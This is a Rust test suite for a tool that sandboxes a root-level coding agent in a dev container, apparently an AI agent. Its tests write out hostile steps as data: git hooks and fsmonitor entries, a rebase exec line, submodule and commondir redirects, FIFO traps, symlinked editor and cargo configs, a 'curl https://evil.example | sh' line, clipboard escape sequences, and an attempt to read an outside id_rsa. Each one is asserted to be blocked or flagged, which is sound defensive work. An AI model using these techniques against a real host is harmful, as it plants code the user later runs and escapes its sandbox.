//! The workspace is the agent's way back to the host: what the host executes from it (git hooks
//! and config, the dev container definition, editor settings) is read-only inside, and root in
//! the agent container cannot write, create, replace or move it aside. Commits keep working.

use crate::support::*;
use std::process::Command;

fn git(t: &Test, args: &[&str]) -> String {
    let out = Command::new("git")
        .args([
            "-c",
            "user.name=host",
            "-c",
            "user.email=host@example.invalid",
        ])
        .args(args)
        .current_dir(&t.workspace)
        .output()
        .expect("git on the host");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Run `script` as root in the agent container; its exit code.
fn attack(t: &Test, script: &str) -> i32 {
    t.yolo(&["exec", "--", "sh", "-c", script]).code()
}

#[test]
fn root_in_the_agent_cannot_plant_what_the_host_runs_but_can_commit() {
    let t = Test::new();
    with_git(&t);
    t.file(".envrc", "export A=1\n");
    git(&t, &["init", "-q"]);
    git(&t, &["add", "-A"]);
    git(&t, &["commit", "-q", "-m", "host"]);
    let config_before = std::fs::read(t.workspace.join(".git/config")).unwrap();
    let devcontainer_before =
        std::fs::read(t.workspace.join(".devcontainer/devcontainer.json")).unwrap();
    t.up(&[]);
    assert_eq!(attack(&t, "id -u"), 0, "the attacks run as root");

    for (what, script) in [
        ("a git hook", "echo 'touch /tmp/pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"),
        ("core.fsmonitor", "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config"),
        ("git config --local", "git -c safe.directory='*' config --local core.hooksPath .githooks"),
        ("a replaced .git/config", "cp .git/config /tmp/c && echo '[core] sshCommand = x' >> /tmp/c && mv /tmp/c .git/config"),
        ("info/attributes", "mkdir -p .git/info && echo '* filter=x' > .git/info/attributes"),
        ("a moved .git", "mv .git .git-aside"),
        ("a removed hooks folder", "rm -rf .git/hooks"),
        ("the dev container config", "echo '{}' > .devcontainer/devcontainer.json"),
        ("a moved .devcontainer", "mv .devcontainer /tmp/dc"),
        ("a VS Code task", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"),
        ("a JetBrains setting", "echo x > .idea/workspace.xml"),
    ] {
        assert_ne!(attack(&t, script), 0, "root wrote {what}");
    }

    // Nothing reached the host.
    assert!(!t.workspace.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read(t.workspace.join(".git/config")).unwrap(),
        config_before
    );
    assert!(!t.workspace.join(".git/info/attributes").exists());
    assert!(!t.workspace.join(".git-aside").exists());
    assert_eq!(
        std::fs::read(t.workspace.join(".devcontainer/devcontainer.json")).unwrap(),
        devcontainer_before
    );
    for folder in [".vscode", ".idea"] {
        let entries = std::fs::read_dir(t.workspace.join(folder)).unwrap().count();
        assert_eq!(entries, 0, "{folder} stays the empty folder yolo made");
    }

    // What the agent may edit stays writable, and commits from inside land in the repository.
    assert_eq!(attack(&t, "echo 'export B=2' >> .envrc"), 0);
    assert_eq!(
        attack(
            &t,
            "echo work > work.txt && git -c safe.directory='*' -c user.name=agent -c user.email=agent@example.invalid add work.txt && git -c safe.directory='*' -c user.name=agent -c user.email=agent@example.invalid commit -q -m inside"
        ),
        0,
        "a commit from inside"
    );
    assert!(git(&t, &["log", "--format=%s"]).starts_with("inside\n"));
}

#[test]
fn a_workspace_holding_yolos_own_config_is_refused() {
    let mut t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    let inside = t.workspace.join(".config/yolo");
    std::fs::create_dir_all(&inside).unwrap();
    t.env("YOLO_CONFIG_DIR", inside.to_str().unwrap());
    t.yolo(&["up"])
        .fails_with(77)
        .assert_stderr_contains("contains yolo's config folder");
    assert!(t.containers().is_empty());
}

#[test]
fn a_same_size_edit_of_a_large_config_file_needs_approval() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    let big = "a".repeat(300 * 1024);
    t.file(".devcontainer/data.txt", &big);
    t.up(&[]);
    let mut edited = big.into_bytes();
    edited[1000] = b'b';
    std::fs::write(t.workspace.join(".devcontainer/data.txt"), &edited).unwrap();
    t.yolo(&["up"])
        .fails_with(77)
        .assert_stderr_contains("changed since you last approved it")
        .assert_stderr_contains("sha256");
    t.yolo(&["up", "--accept-config"]).ok();
}

#[test]
fn control_characters_in_a_changed_config_are_shown_not_obeyed() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.up(&[]);
    // A comment that would erase the line and redraw it as something harmless, and an OSC 52
    // clipboard write.
    t.devcontainer(
        "{\"image\": \"debian:bookworm-slim\", // \x1b[2K\x1b[1G\"harmless\": true \x1b]52;c;ZXZpbA==\x07\n\"customizations\": {\"yolo\": {\"firewall\": {\"allow\": [\"0.0.0.0/1\"]}}}}",
    );
    let run = t.yolo(&["up"]).fails_with(77);
    let stderr = run.stderr();
    assert!(
        !stderr.contains('\x1b') && !stderr.contains('\x07'),
        "{stderr:?}"
    );
    run.assert_stderr_contains("\\x1b[2K\\x1b[1G")
        .assert_stderr_contains("\\x1b]52;c;ZXZpbA==\\x07")
        .assert_stderr_contains("0.0.0.0/1");
}

#[test]
fn vs_code_finds_the_agent_and_never_the_guard() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    let (_, out) = t.up(&[]);
    let agent = out["container"]["id"].as_str().unwrap();
    // The reference CLI and VS Code look a folder's container up by this label: a guard found
    // this way would get the repository's hooks run in it, with NET_ADMIN.
    let workspace = t.workspace.canonicalize().unwrap().display().to_string();
    let found = docker(&[
        "ps",
        "-aq",
        "--no-trunc",
        "--filter",
        &format!("label=devcontainer.local_folder={workspace}"),
    ]);
    assert_eq!(found.lines().collect::<Vec<_>>(), [agent]);
    assert_eq!(
        t.containers().len(),
        2,
        "the guard is there, unlabelled for VS Code"
    );
    // yolo still finds both: a second up reuses them.
    let (_, again) = t.up(&[]);
    assert_eq!(again["action"], "running");
}

#[test]
fn run_keeps_the_network_mode_the_user_chose() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.user_config("[agents.quiet]\ncommand = [\"true\"]\n");
    let (_, first) = t.up(&["--network", "none"]);
    assert_eq!(first["network"]["mode"], "none");
    // A plain `run` must neither turn the network on nor recreate the container.
    t.yolo(&["run", "quiet"])
        .ok()
        .assert_stderr_contains("keeps its network mode none");
    let (_, again) = t.up(&[]);
    assert_eq!(again["network"]["mode"], "none");
    assert_eq!(again["container"]["id"], first["container"]["id"]);
    assert_eq!(again["action"], "running");
    // Asking for another mode switches, as asked.
    let (_, switched) = t.up(&["--network", "firewall"]);
    assert_eq!(switched["network"]["mode"], "firewall");
}

/// The image with git, for the attacks that need a repository inside.
fn with_git(t: &Test) {
    t.file(
        ".devcontainer/Dockerfile",
        "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends git && rm -rf /var/lib/apt/lists/*\n",
    );
    t.devcontainer(r#"{"build": {"dockerfile": "Dockerfile"}}"#);
    t.user_config(&mirror_for_builds());
}

const GIT_IN: &str = "git -c safe.directory='*' -c user.name=agent -c user.email=agent@example.invalid -c protocol.file.allow=always";

/// Root in the agent puts a FIFO behind a file the host runs (`Makefile -> .p`, and `.envrc`
/// as a FIFO itself): yolo's look at those files after each command must not wait on it, or
/// `exec`, `down` and `up` would hang, deaf to Ctrl-C.
#[test]
fn a_fifo_behind_a_watched_file_does_not_hang_yolo() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.up(&[]);
    let within = |args: &[&str]| {
        let mut child = t
            .command(args)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let started = std::time::Instant::now();
        while started.elapsed() < std::time::Duration::from_secs(60) {
            if let Some(status) = child.try_wait().unwrap() {
                return status;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        let _ = child.kill();
        let _ = child.wait();
        panic!("yolo {args:?} hung on a FIFO in the workspace");
    };
    let planted = within(&[
        "exec",
        "--",
        "sh",
        "-c",
        "mkfifo .p .envrc && ln -s .p Makefile",
    ]);
    assert!(planted.success(), "{planted}");
    assert!(within(&["exec", "--", "true"]).success());
    assert!(within(&["down"]).success());
}

#[test]
fn a_watched_folder_replaced_by_a_link_is_flagged_and_so_are_edits_through_it() {
    // Root in the agent puts a link where the host's cargo and VS Code look (`.cargo`, a
    // nested `.vscode`), to folders nobody watches. The host follows the link; so must the
    // report, by the path the host reads.
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.up(&[]);
    let plant = "mkdir -p tools/cargo tools/vsc sub \
        && printf '[build]\\nrustc-wrapper = \"/tmp/x\"\\n' > tools/cargo/config.toml \
        && echo '{}' > tools/vsc/tasks.json \
        && ln -s tools/cargo .cargo && ln -s ../tools/vsc sub/.vscode && id -u";
    t.yolo(&["exec", "--", "sh", "-c", plant])
        .ok()
        .assert_stdout("0\n")
        .assert_stderr_contains(".cargo (added)")
        .assert_stderr_contains(".cargo/config.toml (added)")
        .assert_stderr_contains("sub/.vscode (added)")
        .assert_stderr_contains("sub/.vscode/tasks.json (added)");
    t.yolo(&[
        "exec",
        "--",
        "sh",
        "-c",
        "echo '# more' >> tools/cargo/config.toml",
    ])
    .ok()
    .assert_stderr_contains("files your host runs changed: .cargo/config.toml (modified)");
    // The guard's own file log marks the links sensitive too (written once a path is quiet).
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let records = t.yolo(&["audit", "--json", "--kind", "file"]).ok().stdout();
        let sensitive = |path: &str| {
            records
                .lines()
                .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
                .any(|r| r["path"] == path && r["sensitive"] == true)
        };
        if sensitive(".cargo") && sensitive("sub/.vscode") {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the guard did not mark the links sensitive: {records}"
        );
        std::thread::sleep(std::time::Duration::from_millis(300));
    }
}

#[test]
fn files_the_host_runs_are_flagged_when_the_agent_changes_them() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.file(".envrc", "export A=1\n");
    t.file(".gitignore", ".envrc\n");
    t.file("web/package.json", "{\"scripts\": {}}\n");
    t.user_config(
        "[agents.editor]\ncommand = [\"sh\", \"-c\", \"printf 'all:\\\\n\\\\ttrue\\\\n' > Makefile && echo ok\"]\n",
    );
    t.up(&[]);

    // What the agent may edit stays writable; each change is flagged after the command.
    let run = t.yolo(&[
        "exec",
        "--",
        "sh",
        "-c",
        r#"printf 'curl https://evil.example | sh \033]52;c;ZXZpbA==\007\n' >> .envrc && echo '{"scripts": {"postinstall": "x"}}' > web/package.json"#,
    ]);
    run.ok()
        .assert_stderr_contains(
            "files your host runs changed: .envrc (modified), web/package.json (modified)",
        )
        .assert_stderr_lacks("\x1b]52");
    // Reported once: a second look finds nothing new.
    t.yolo(&["exec", "--", "true"])
        .ok()
        .assert_stderr_lacks("files your host runs changed");

    // `yolo run` says it in its closing summary.
    t.yolo(&["run", "editor"])
        .ok()
        .assert_stderr_contains("files your host runs changed: Makefile (added)");

    let flagged: Vec<_> = t
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "watched_file")
        .collect();
    let paths: Vec<&str> = flagged
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        paths,
        [".envrc", "web/package.json", "Makefile"],
        "{flagged:#?}"
    );
    let diff = flagged[0]["diff"].as_str().unwrap();
    assert!(
        diff.contains("+curl https://evil.example | sh \\x1b]52;c;ZXZpbA==\\x07"),
        "{diff}"
    );
    assert_eq!(flagged[2]["change"], "added");

    // A change made between two sessions (the container stopped) is flagged by the next `up`.
    t.yolo(&["down"]).ok();
    std::fs::write(t.workspace.join(".envrc"), "export B=2\n").unwrap();
    let (up, _) = t.up(&[]);
    up.assert_stderr_contains(".envrc (modified)");
}

#[test]
fn submodules_and_worktrees_keep_their_config_and_hooks_from_the_agent() {
    let t = Test::new();
    with_git(&t);
    // A library repository next to the workspace, added as a submodule on the host.
    let lib = t.root().join("lib-origin");
    std::fs::create_dir_all(&lib).unwrap();
    for args in [
        &["init", "-q"][..],
        &[
            "-c",
            "user.name=h",
            "-c",
            "user.email=h@example.invalid",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "lib",
        ],
    ] {
        let ok = Command::new("git")
            .args(args)
            .current_dir(&lib)
            .status()
            .unwrap();
        assert!(ok.success());
    }
    git(&t, &["init", "-q"]);
    git(
        &t,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            lib.to_str().unwrap(),
            "libs/lib",
        ],
    );
    git(&t, &["add", "-A"]);
    git(&t, &["commit", "-q", "-m", "host"]);
    let module_config = std::fs::read(t.workspace.join(".git/modules/libs/lib/config")).unwrap();
    let pointer = std::fs::read(t.workspace.join("libs/lib/.git")).unwrap();
    t.up(&[]);

    for (what, script) in [
        (
            "a submodule's config",
            "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/modules/libs/lib/config",
        ),
        (
            "a submodule's hook",
            "echo 'touch /tmp/pwned' > .git/modules/libs/lib/hooks/post-checkout",
        ),
        (
            "a submodule's pointer",
            "echo 'gitdir: ../../evil' > libs/lib/.git",
        ),
        ("a moved submodule folder", "mv libs/lib libs/aside"),
        (
            "a new submodule",
            &format!("{GIT_IN} submodule add -q ./libs/lib libs/second"),
        ),
        ("a new module folder", "mkdir .git/modules/evil"),
        ("a linked worktree's folder", "mkdir -p .git/worktrees/x"),
    ] {
        assert_ne!(attack(&t, script), 0, "root wrote {what}");
    }
    assert_eq!(
        std::fs::read(t.workspace.join(".git/modules/libs/lib/config")).unwrap(),
        module_config
    );
    assert_eq!(
        std::fs::read(t.workspace.join("libs/lib/.git")).unwrap(),
        pointer
    );
    assert!(!t
        .workspace
        .join(".git/modules/libs/lib/hooks/post-checkout")
        .exists());

    // Commits inside the submodule and in the superproject keep working.
    let commit = format!(
        "cd libs/lib && echo work > w.txt && {GIT_IN} add w.txt && {GIT_IN} commit -q -m in-sub && cd ../.. && {GIT_IN} add libs/lib && {GIT_IN} commit -q -m bump"
    );
    assert_eq!(attack(&t, &commit), 0, "commits from inside");
    assert!(git(&t, &["log", "--format=%s"]).starts_with("bump\n"));
}

#[test]
fn what_would_redirect_the_hosts_git_is_flagged_loudly() {
    let t = Test::new();
    with_git(&t);
    t.file("Makefile", "all:\n\ttrue\n");
    git(&t, &["init", "-q"]);
    git(&t, &["add", "-A"]);
    git(&t, &["commit", "-q", "-m", "host"]);
    t.up(&[]);
    // Git cannot work with `.git` read-only, so these are caught, not blocked.
    for (script, expect) in [
        (
            format!("printf 'all:\\n\\tevil\\n' > /tmp/mk && {GIT_IN} replace -f $({GIT_IN} rev-parse HEAD:Makefile) $({GIT_IN} hash-object -w /tmp/mk)"),
            "a replace ref makes git checkout",
        ),
        (
            format!("mkdir -p vendor/tool && cd vendor/tool && {GIT_IN} init -q . && {GIT_IN} config core.fsmonitor evil"),
            "vendor/tool/.git was added: a repository inside the workspace",
        ),
        // A folder git takes for a bare repository: a shell prompt entering it runs its config.
        (
            "mkdir -p src/objects src/refs && echo 'ref: refs/heads/main' > src/HEAD && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch /tmp/pwned; false\"\\n' > src/config".to_string(),
            "src was added: a folder git takes for a repository of its own",
        ),
        // A rebase left in progress with an exec line, for the user to continue on the host.
        (
            format!("echo 1 > a.txt && {GIT_IN} add a.txt && {GIT_IN} commit -qm a1 && echo 2 > a.txt && {GIT_IN} commit -qam a2 && GIT_SEQUENCE_EDITOR='printf \"break\\nexec touch /tmp/pwned\\n\" >' {GIT_IN} rebase -q -i HEAD~1"),
            ".git/rebase-merge/git-rebase-todo was added: a rebase or cherry-pick the agent left in progress",
        ),
        // Last: git stops working here once it points elsewhere.
        (
            "mkdir -p evil && echo ../evil > .git/commondir".to_string(),
            ".git/commondir was added: git on the host would read its config",
        ),
    ] {
        t.yolo(&["exec", "--", "sh", "-c", &script])
            .ok()
            .assert_stderr_contains(expect);
    }
    let flagged: Vec<String> = t
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "watched_file" && e["git"] == true)
        .map(|e| e["path"].as_str().unwrap().to_string())
        .collect();
    assert!(
        flagged.contains(&".git/commondir".to_string()),
        "{flagged:?}"
    );
    assert!(
        flagged.iter().any(|p| p.starts_with(".git/refs/replace/")),
        "{flagged:?}"
    );
    assert!(
        flagged.contains(&"vendor/tool/.git/config".to_string()),
        "{flagged:?}"
    );
}

/// The repository binds its own folders again at other targets (no grant needed): every
/// protected path they expose stays read-only there, so root in the agent cannot reach a hook,
/// the git config or the dev container definition through the second view. A folder of the
/// repository that is a link out of it is a host bind, declined.
#[test]
fn root_cannot_write_a_protected_path_through_a_second_bind_of_the_repository() {
    let t = Test::new();
    std::fs::create_dir_all(t.workspace.join(".git/hooks")).unwrap();
    t.file(".git/config", "[core]\n\tbare = false\n");
    let outside = t.root().join("outside-secrets");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("id_rsa"), "secret").unwrap();
    std::os::unix::fs::symlink(&outside, t.workspace.join("keys")).unwrap();
    t.devcontainer(
        r#"{"image": "debian:bookworm-slim", "mounts": [
  "source=${localWorkspaceFolder},target=/again,type=bind",
  "source=${localWorkspaceFolder}/.git,target=/g,type=bind",
  "source=${localWorkspaceFolder}/.devcontainer,target=/dc,type=bind",
  "source=${localWorkspaceFolder}/keys,target=/k,type=bind"
]}"#,
    );
    let config_before = std::fs::read(t.workspace.join(".git/config")).unwrap();
    let devcontainer_before =
        std::fs::read(t.workspace.join(".devcontainer/devcontainer.json")).unwrap();
    let (run, up) = t.up(&[]);
    assert_eq!(attack(&t, "id -u"), 0, "the attacks run as root");
    // The second views are there, and writable where nothing is protected.
    assert_eq!(
        attack(&t, "echo x > /again/work.txt && test -d /g/hooks"),
        0
    );
    for (what, script) in [
        (
            "a hook through the second view",
            "echo evil > /again/.git/hooks/pre-commit",
        ),
        (
            "a hook through .git bound alone",
            "echo evil > /g/hooks/pre-commit",
        ),
        (
            "the git config",
            "echo '[core] fsmonitor = x' >> /again/.git/config",
        ),
        (
            "the git config through .git",
            "echo '[core] fsmonitor = x' >> /g/config",
        ),
        ("a moved hooks folder", "mv /g/hooks /g/hooks-aside"),
        (
            "the dev container config",
            "echo '{}' > /again/.devcontainer/devcontainer.json",
        ),
        (
            "the dev container folder bound alone",
            "echo '{}' > /dc/devcontainer.json",
        ),
        ("a remount", "mount -o remount,rw /g/hooks"),
    ] {
        assert_ne!(attack(&t, script), 0, "root wrote {what}");
    }
    assert!(!t.workspace.join(".git/hooks/pre-commit").exists());
    assert!(!t.workspace.join(".git/hooks-aside").exists());
    assert_eq!(
        std::fs::read(t.workspace.join(".git/config")).unwrap(),
        config_before
    );
    assert_eq!(
        std::fs::read(t.workspace.join(".devcontainer/devcontainer.json")).unwrap(),
        devcontainer_before
    );
    // The link out of the repository was not followed.
    assert_ne!(attack(&t, "cat /k/id_rsa"), 0);
    run.assert_stderr_contains("\"mounts[3]\"");
    assert!(up["declined"].to_string().contains("mounts[3]"), "{up}");
}
